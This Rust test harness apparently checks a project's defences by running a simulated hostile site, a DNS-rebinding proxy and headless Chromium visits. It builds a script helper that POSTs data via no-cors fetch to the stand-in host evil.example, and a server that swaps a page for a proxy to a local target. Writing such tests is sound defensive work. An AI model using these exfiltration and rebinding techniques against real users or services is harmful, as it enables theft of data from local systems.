//! A hostile web site, and the browser that visits it.

use super::PATIENCE;
use axum::Router;
use axum::extract::{Path, State};
use axum::response::Html;
use axum::routing::{get, post};
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::io::{ErrorKind, Write as _};
use std::process::Stdio;
use std::sync::Arc;
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::{Child, Command};
use tokio::sync::mpsc;
use tokio::task::JoinHandle;
use tokio::time::timeout;

/// The names that lead to this machine in the browser, as an attacker's DNS would have it.
const RULES: &str = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1";

/// A web server with pages, to which scripts report.
pub(crate) struct Attacker {
    pub(crate) port: u16,
    pages: Arc<Mutex<BTreeMap<String, String>>>,
    reports: mpsc::UnboundedReceiver<String>,
    server: JoinHandle<()>,
}

#[derive(Clone)]
struct Site(Arc<Mutex<BTreeMap<String, String>>>, mpsc::UnboundedSender<String>);

impl Attacker {
    pub(crate) async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let pages = Arc::<Mutex<BTreeMap<String, String>>>::default();
        let (sender, reports) = mpsc::unbounded_channel();
        let page = async |Path(name): Path<String>, State(site): State<Site>| {
            Html(site.0.lock().get(&name).cloned().unwrap_or_default())
        };
        let report = async |State(site): State<Site>, body: String| drop(site.1.send(body));
        let router = Router::new()
            .route("/page/{name}", get(page))
            .route("/report", post(report))
            .with_state(Site(Arc::clone(&pages), sender));
        let server = tokio::spawn(async { axum::serve(listener, router).await.unwrap() });
        Self { port, pages, reports, server }
    }

    /// Puts a page there, and returns its address under a host name.
    pub(crate) fn page(&self, host: &str, name: &str, html: String) -> String {
        self.pages.lock().insert(name.to_owned(), html);
        format!("http://{host}:{}/page/{name}", self.port)
    }

    /// A function `report(text)` for a script of any origin, and `tried(work)`, which goes on after an error.
    pub(crate) fn functions(&self) -> String {
        let report = format!("http://evil.example:{}/report", self.port);
        format!(
            "const report = text => fetch('{report}', {{mode: 'no-cors', method: 'POST', body: text}});
            const tried = async work => {{ try {{ return await work(); }} catch (error) {{ return `${{error}}`; }} }};"
        )
    }

    /// Everything that was reported up to `last`.
    pub(crate) async fn reported(&mut self, last: &str) -> Vec<String> {
        let mut reports = Vec::new();
        while reports.last().is_none_or(|report| report != last) {
            let report = timeout(PATIENCE, self.reports.recv()).await;
            reports.push(report.unwrap_or_else(|_| panic!("no {last:?} after {reports:?}")).unwrap());
        }
        reports
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.server.abort();
    }
}

/// A name that led to the attacker's page at first and leads to `target` now: an address for the browser.
pub(crate) async fn rebound(target: String, page: String) -> (String, JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let host = format!("rebound.example:{}", listener.local_addr().unwrap().port());
    let server = tokio::spawn(async move {
        loop {
            let (stream, _) = listener.accept().await.unwrap();
            let (target, page) = (target.clone(), page.clone());
            tokio::spawn(async move { serve_rebound(stream, &target, &page).await });
        }
    });
    (host, server)
}

async fn serve_rebound(mut stream: TcpStream, target: &str, page: &str) -> std::io::Result<()> {
    let mut head = vec![0; 9];
    stream.read_exact(&mut head).await?;
    if head == b"GET /page" {
        let length = page.len();
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
        );
        return stream.write_all(format!("{head}{page}").as_bytes()).await;
    }
    let mut upstream = TcpStream::connect(target).await?;
    upstream.write_all(&head).await?;
    copy_bidirectional(&mut stream, &mut upstream).await.map(drop)
}

/// A browser with an empty profile, which ends with this value.
pub(crate) struct Browser {
    _process: Child,
    _profile: TempDir,
}

/// `None`, with a notice, where no browser is installed.
fn start(options: &[&str], url: &str) -> Option<(Child, TempDir)> {
    let profile = tempfile::tempdir().unwrap();
    let mut browser = Command::new(std::env::var("CHROMIUM").unwrap_or_else(|_| "chromium".to_owned()));
    browser.args(["--headless=new", "--no-sandbox", "--disable-gpu", RULES]).args(options);
    browser.arg(format!("--user-data-dir={}", profile.path().display())).arg(url);
    browser.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null()).kill_on_drop(true);
    match browser.spawn() {
        Ok(process) => Some((process, profile)),
        Err(error) if error.kind() == ErrorKind::NotFound => {
            let required = std::env::var_os("MAILROOM_BROWSER").is_some();
            assert!(!required, "chromium is missing: install it, or set CHROMIUM");
            // Not with eprintln, which is heard only where a test fails.
            let _ = writeln!(std::io::stderr(), "browser: skipped, since chromium is missing");
            None
        }
        Err(error) => panic!("chromium: {error}"),
    }
}

/// Opens a page, which reports to the attacker.
pub(crate) fn visit(url: &str) -> Option<Browser> {
    let (process, profile) = start(&["--remote-debugging-port=0"], url)?;
    Some(Browser { _process: process, _profile: profile })
}

/// The document to which an address leads, after its scripts have run.
pub(crate) async fn document(url: &str) -> Option<String> {
    let (process, _profile) = start(&["--virtual-time-budget=5000", "--dump-dom"], url)?;
    let output = timeout(PATIENCE, process.wait_with_output()).await.expect("the browser ends").unwrap();
    Some(String::from_utf8(output.stdout).unwrap())
}
